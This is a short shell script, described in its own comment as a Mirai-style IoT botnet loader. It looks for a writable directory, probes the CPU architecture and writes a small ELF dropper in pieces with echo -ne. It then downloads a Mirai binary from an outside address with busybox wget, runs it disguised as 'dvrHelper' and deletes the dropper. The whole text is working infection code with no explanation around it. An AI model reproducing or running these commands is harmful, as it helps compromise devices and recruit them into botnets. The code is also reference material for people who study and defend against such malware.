# Mirai-style loader (written by the kansoku team): finds a writable directory, probes the CPU, writes
# a tiny dropper with echo -ne in pieces, runs it with the bot's name, then fetches the full binary.
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
/bin/busybox ECCHI
cat /proc/cpuinfo | grep -i "cpu model" | head -n 1 | awk -F: '{print $2}'
ARCH=$(uname -m)
>.d && chmod 777 .d
echo -ne '\x7f\x45\x4c\x46\x01\x02\x01\x00' > .d
echo -ne '\x00\x00\x00\x00\x00\x00\x00\x00' >> .d
echo -ne '\x00\x02\x00\x08\x00\x00\x00\x01' >> .d
./.d loader.$ARCH
/bin/busybox wget http://192.0.2.10/bins/mirai.$ARCH -O dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet.$ARCH
rm -rf .d
/bin/busybox ECCHI
